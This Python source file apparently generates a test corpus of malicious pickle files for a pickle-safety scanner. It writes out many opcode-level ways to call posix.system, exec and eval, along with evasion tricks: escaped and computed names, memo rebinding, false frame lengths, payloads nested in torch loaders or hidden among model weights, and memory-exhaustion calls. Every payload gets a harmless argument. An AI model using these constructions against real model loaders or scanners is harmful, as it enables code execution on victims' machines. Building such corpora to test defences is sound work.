"""Pickles put together opcode by opcode: every way to name and to call a function, and ways to hide it.

Nothing here is ever loaded, and what would be called gets a harmless argument.
"""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator
from pathlib import Path

Sample = tuple[str, str, bytes]  # family, file name, content
Call = Callable[[str, str, bytes], bytes]  # module, name, pushed argument -> pickle

ARGUMENTS = {
    "0": "true",
    "1": "1 + 1",
    "2": "unseen.txt",
    "3": "http://localhost:9/unseen",
}


def short(value: str) -> bytes:
    """SHORT_BINUNICODE."""
    data = value.encode()
    return b"\x8c" + struct.pack("<B", len(data)) + data


def long_text(value: str) -> bytes:
    """BINUNICODE."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def line(value: str) -> bytes:
    """UNICODE, with every second letter escaped: names that a search for text does not find."""
    return b"V" + "".join(f"\\u{ord(c):04x}" if i % 2 else c for i, c in enumerate(value)).encode() + b"\n"


def quoted(value: str) -> bytes:
    """Push a STRING, escaped in hexadecimal."""
    return b"S'" + "".join(f"\\x{ord(c):02x}" for c in value).encode() + b"'\n"


def argument(kind: str) -> bytes:
    """Push the harmless argument of a gadget."""
    return b"C\x02N." if kind == "4" else long_text(ARGUMENTS[kind])


def by_global(module: str, name: str, given: bytes) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n(" + given + b"tR."


def by_global_2(module: str, name: str, given: bytes) -> bytes:
    return b"\x80\x02c" + module.encode() + b"\n" + name.encode() + b"\nq\x00" + given + b"\x85q\x01Rq\x02."


def by_instance(module: str, name: str, given: bytes) -> bytes:
    return b"(" + given + b"i" + module.encode() + b"\n" + name.encode() + b"\n."


def by_object(module: str, name: str, given: bytes) -> bytes:
    return b"(c" + module.encode() + b"\n" + name.encode() + b"\n" + given + b"o."


def by_stack(module: str, name: str, given: bytes) -> bytes:
    body = short(module) + b"\x94" + short(name) + b"\x94\x93\x94" + given + b"\x94\x85\x94R\x94."
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


def by_long_text(module: str, name: str, given: bytes) -> bytes:
    return b"\x80\x05" + long_text(module) + long_text(name) + b"\x93" + given + b"\x85R."


def by_escaped_lines(module: str, name: str, given: bytes) -> bytes:
    return b"\x80\x04" + line(module) + line(name) + b"\x93(" + given + b"tR."


def by_quoted(module: str, name: str, given: bytes) -> bytes:
    return b"\x80\x04" + quoted(module) + quoted(name) + b"\x93" + given + b"\x85R."


def by_new(module: str, name: str, given: bytes) -> bytes:
    return b"\x80\x04" + short(module) + short(name) + b"\x93" + given + b"\x85\x81."


def by_new_named(module: str, name: str, given: bytes) -> bytes:
    return b"\x80\x04" + short(module) + short(name) + b"\x93" + given + b"\x85}\x92."


def by_memo(module: str, name: str, given: bytes) -> bytes:
    """Pass names and function through the memo, out of order."""
    put = short(name) + b"r\x10\x27\x00\x000" + short(module) + b"q\x070"
    return b"\x80\x04" + put + b"h\x07j\x10\x27\x00\x00\x93q\x010" + given + b"\x85q\x020h\x01h\x02R."


def by_copyreg(module: str, name: str, given: bytes) -> bytes:
    """Make the class of a reconstructed object of it."""
    reconstructor = b"ccopyreg\n_reconstructor\n"
    return (
        b"\x80\x02" + reconstructor + b"(c" + module.encode() + b"\n" + name.encode() + b"\ncbuiltins\nobject\nNtR}"
        b"U\x01x" + given + b"sb."
    )


def inside(module: str, name: str, given: bytes) -> bytes:
    """Hide it in a list of what looks like a model's parameters; the result is thrown away."""
    call = short(module) + short(name) + b"\x93" + given + b"\x85R0"
    weights = b"".join(b"G" + struct.pack(">d", i / 7) for i in range(300))
    return b"\x80\x04}(" + short("coef") + b"](" + weights + b"e" + short("bias") + call + b"K\x00u."


def cut(module: str, name: str, given: bytes) -> bytes:
    """End the stream behind the call: a loader has run it when it finds out."""
    return b"\x80\x04" + short(module) + short(name) + b"\x93" + given + b"\x85R"


def broken(module: str, name: str, given: bytes) -> bytes:
    """Do the same, then write a byte that is no opcode."""
    return cut(module, name, given) + b"\xff\xff."


def imported_only(module: str, name: str, given: bytes) -> bytes:
    """Import it and leave it in the object; the program calls it."""
    return b"\x80\x04}" + short("predict") + short(module) + short(name) + b"\x93s" + given + b"0."


def by_partial(module: str, name: str, given: bytes) -> bytes:
    """Bind it with ``functools.partial``, then call that."""
    partial = short("functools") + short("partial") + b"\x93"
    return b"\x80\x04" + partial + short(module) + short(name) + b"\x93" + given + b"\x86R)R."


def by_default_factory(module: str, name: str, given: bytes) -> bytes:
    """Make it the factory of a ``defaultdict``: it runs when a key is missing."""
    factory = short("collections") + short("defaultdict") + b"\x93"
    return b"\x80\x04" + factory + short(module) + short(name) + b"\x93\x85R" + given + b"0."


FORMS: tuple[Call, ...] = (
    by_global,
    by_global_2,
    by_instance,
    by_object,
    by_stack,
    by_long_text,
    by_escaped_lines,
    by_quoted,
    by_new,
    by_new_named,
    by_memo,
    by_copyreg,
    inside,
    cut,
    broken,
    imported_only,
    by_partial,
    by_default_factory,
)
_TWO_LINES = {by_global, by_global_2, by_instance, by_object, by_copyreg}  # before protocol 4 no name has a dot


def gadgets() -> Iterator[tuple[str, str, str]]:
    """Yield module, name and kind of argument of every gadget."""
    listed = Path(__file__).with_name("artifact_gadgets.txt").read_text(encoding="ascii")
    for entry in listed.splitlines():
        if not entry.startswith("#"):
            module, name, kind = entry.split()
            yield module, name, kind


def gadget_files() -> Iterator[Sample]:
    """Yield one file for each gadget, the way to call it changing from one to the next."""
    for index, (module, name, kind) in enumerate(gadgets()):
        form = FORMS[index % len(FORMS)]
        if "." in name and form in _TWO_LINES:
            form = by_stack
        yield "gadget", f"{index:03}-{form.__name__}.pkl", form(module, name, argument(kind))


def form_files() -> Iterator[Sample]:
    """Yield every way to call, for a function that everybody knows and for one that nobody lists."""
    for module, name in (("posix", "system"), ("builtins", "exec"), ("lxml.etree", "XSLT"), ("acme.tools", "shell")):
        for form in FORMS:
            yield "form", f"{form.__name__}-{module}.pkl", form(module, name, argument("0"))


def _trick(*parts: bytes) -> bytes:
    return b"\x80\x04" + b"".join(parts) + b"."


def _imported(module: str, name: str) -> bytes:
    return short(module) + short(name) + b"\x93"


def _joined(text: str) -> bytes:
    """Put a name together at load time: ``str.join("", [...])``."""
    letters = b"".join(short(letter) for letter in text)
    return _imported("builtins", "str.join") + short("") + b"](" + letters + b"e\x86R"


def trick_files() -> Iterator[Sample]:
    """Yield what no list of names sees: computed names, changed imports, extension codes, operations in data."""
    system, true = _imported("posix", "system"), argument("0")
    harmless = _imported("collections", "OrderedDict")
    ufunc = _imported("numpy", "add")
    known = _imported("sklearn.linear_model._logistic", "LogisticRegression")
    tricks: dict[str, bytes] = {
        "computed-name": _trick(_joined("posix"), _joined("system"), b"\x93", true, b"\x85R"),
        "computed-name-reversed": _trick(short("posix"), b"\x94", _joined("system"), b"\x93", true, b"\x85R"),
        "extension-1": _trick(b"\x82\x01", true, b"\x85R"),
        "extension-2": _trick(b"\x83\x10\x01", true, b"\x85R"),
        "extension-4": _trick(b"\x84\x10\x01\x00\x00", true, b"\x85R"),
        "persistent-text": b"Pos.system\n.",
        "persistent-binary": _trick(short("storage"), b"Q"),
        "persistent-called": _trick(short("x"), b"Q", true, b"\x85R"),
        "state-of-class": _trick(known, b"}", short("predict"), system, b"sb0N"),
        "state-of-function": _trick(ufunc, b"}", short("__code__"), b"Nsb"),
        "slot-state-of-class": _trick(harmless, b"N}", short("__init__"), system, b"s\x86b)R"),
        "items-of-module-table": _trick(_imported("sys", "modules"), short("json"), short("os"), b"s"),
        "items-of-import": _trick(harmless, short("a"), system, b"s"),
        "append-to-path": _trick(_imported("sys", "path"), short("."), b"a"),
        "append-to-import": _trick(_imported("sklearn", "__path__"), short("."), b"a"),
        "additems-of-import": _trick(_imported("numpy", "set"), b"(K\x01\x90"),
        "call-of-result": _trick(known, b")R", true, b"\x85R"),
        "call-of-state": _trick(_imported("functools", "partial"), known, b"\x85R)R"),
        "dotted-vetted-module": _trick(_imported("numpy", "f2py.os.system"), true, b"\x85R"),
        "dotted-in-class": _trick(_imported("collections", "OrderedDict.__init__.__globals__"), b""),
        "dotted-subclasses": _trick(_imported("builtins", "object.__subclasses__"), b")R"),
        "module-in-module": _trick(_imported("sklearn.utils.os", "system"), true, b"\x85R"),
        "package-attribute": _trick(_imported("joblib.parallel", "os"), b""),
        "attribute-of-vetted": _trick(_imported("collections", "abc.sys"), b""),
        "odd-encoding": _trick(_imported("_codecs", "encode"), short("x"), short("rot13"), b"\x86R"),
        "map-over-system": _trick(_imported("builtins", "map"), system, b"](", true, b"e\x86R0N"),
        "filter-list": _trick(
            _imported("builtins", "list"), _imported("builtins", "map"), system, b"](", true, b"e\x86R\x85R"
        ),
        "deque-of-map": _trick(
            _imported("collections", "deque"), _imported("builtins", "map"), system, b"](", true, b"e\x86R\x85R"
        ),
        "sorted-with-key": _trick(
            _imported("functools", "partial"), _imported("builtins", "sorted"), b"\x85R}", short("key"), system, b"s0)R"
        ),
        "dup-and-pop": _trick(system, b"200", b"N"),
        "mark-and-pop": _trick(b"(", system, true, b"\x85R1N"),
        "frame-lies": b"\x80\x04\x95\x01\x00\x00\x00\x00\x00\x00\x00" + system + true + b"\x85R.",
        "frame-beyond": b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7f" + system + true + b"\x85R.",
        "protocol-twice": b"\x80\x02\x80\x04\x80\x00" + system + true + b"\x85R.",
        "protocol-late": b"N0\x80\x04" + system + true + b"\x85R.",
        "second-pickle": b"\x80\x04N." + b"\x80\x04" + system + true + b"\x85R.",
        "tenth-pickle": b"\x80\x04N." * 9 + by_stack("posix", "system", true),
        "after-stop-no-mark": b"N." + by_global("posix", "system", true),
        "after-zeros": b"\x80\x04N." + bytes(512) + by_stack("posix", "system", true),
        "after-text": b"\x80\x04N.# comment\n" + by_stack("posix", "system", true),
        "long-prefix": b"\x80\x04" + b"N0" * 60_000 + system + true + b"\x85R.",
        "deep-prefix": b"\x80\x04" + b"(" * 20_000 + b"1" * 20_000 + system + true + b"\x85R.",
        "memo-wrap": b"\x80\x04" + short("posix") + b"r\xff\xff\xff\x7f0" + short("system") + b"q\x000j\xff\xff\xff\x7f"
        b"h\x00\x93" + true + b"\x85R.",
        "memo-rebound": b"\x80\x04"
        + short("json")
        + b"q\x000"
        + short("posix")
        + b"q\x000h\x00"
        + short("system")
        + b"\x93"
        + true
        + b"\x85R.",
        "text-memo": b"ccollections\nOrderedDict\np0\n0cposix\nsystem\np0\n0g0\n(S'true'\ntR.",
        "string-no-newline-name": b"c__builtin__\neval\n(V1\ntR.",
        "crlf-names": b"cposix\r\nsystem\r\n(S'true'\r\ntR.",
        "spaces-in-name": b"c posix\nsystem \n(S'true'\ntR.",
        "unicode-lookalike": "cpo\u0455ix\nsystem\n(S'true'\ntR.".encode(),
        "nested-in-torch": _trick(
            _imported("torch.storage", "_load_from_bytes"), _bytes(by_stack("posix", "system", true)), b"\x85R"
        ),
        "nested-twice": _trick(
            _imported("torch.storage", "_load_from_bytes"),
            _bytes(
                _trick(
                    _imported("torch.storage", "_load_from_bytes"), _bytes(by_stack("posix", "system", true)), b"\x85R"
                )
            ),
            b"\x85R",
        ),
        "nested-computed": _trick(
            _imported("torch.storage", "_load_from_bytes"),
            _imported("builtins", "bytes"),
            b"](K\x80K\x04K\x4eK\x2ee\x85R\x85R",
        ),
        "nested-in-pickle": _trick(_imported("pickle", "loads"), _bytes(b"N."), b"\x85R"),
        "estimator-with-function": _trick(
            _imported("sklearn.preprocessing._function_transformer", "FunctionTransformer"),
            b")\x81}",
            short("func"),
            system,
            b"sb",
        ),
        "vectorizer-with-function": _trick(
            _imported("sklearn.feature_extraction.text", "CountVectorizer"),
            b")\x81}(",
            short("analyzer"),
            system,
            short("tokenizer"),
            system,
            b"ub",
        ),
        "grid-with-scorer": _trick(
            _imported("sklearn.metrics._scorer", "_Scorer"), b")\x81}", short("_score_func"), system, b"sb"
        ),
        "random-state-constructor": _trick(_imported("numpy.random._pickle", "__randomstate_ctor"), system, b"\x85R"),
        "exception-with-state": _trick(_imported("builtins", "ValueError"), b")R}", short("__class__"), system, b"sb"),
        "setstate-of-distribution": _trick(
            _imported("scipy.stats._continuous_distns", "norm_gen"),
            b")\x81}",
            short("_parse_arg_template"),
            short("print(1)"),
            b"sb",
        ),
        "timezone-file": _trick(_imported("dateutil.tz.tz", "tzfile"), short("unseen.txt"), b"\x85R"),
        "logger": _trick(_imported("logging", "getLogger"), short("x"), b"\x85R"),
    }
    for name, data in tricks.items():
        yield "trick", f"{name}.pkl", data


def exhaustion_files() -> Iterator[Sample]:
    """Yield pickles whose vetted names are called with what takes all time or memory there is."""
    huge = b"\x8a\x08" + b"\xff" * 6 + b"\x0f\x00"
    endless = _imported("itertools", "count") + b")R"
    calls = {
        "bytearray": _imported("builtins", "bytearray") + huge + b"\x85R",
        "pow": _imported("builtins", "pow") + b"K\x09J\xff\xff\xff\x7f\x86R",
        "list-of-range": _imported("builtins", "list") + _imported("builtins", "range") + huge + b"\x85R\x85R",
        "list-of-endless": _imported("builtins", "list") + endless + b"\x85R",
        "set-of-repeat": _imported("builtins", "tuple") + _imported("itertools", "repeat") + b"K\x01\x85R\x85R",
        "deque-of-endless": _imported("collections", "deque") + endless + b"\x85R",
        "empty-array": _imported("numpy", "ndarray") + huge + b"\x85\x85R",
    }
    for name, data in calls.items():
        yield "exhaustion", f"{name}.pkl", _trick(data)


def _bytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def malicious_pickles() -> Iterator[Sample]:
    """Yield all of the above."""
    yield from gadget_files()
    yield from form_files()
    yield from trick_files()
    yield from exhaustion_files()
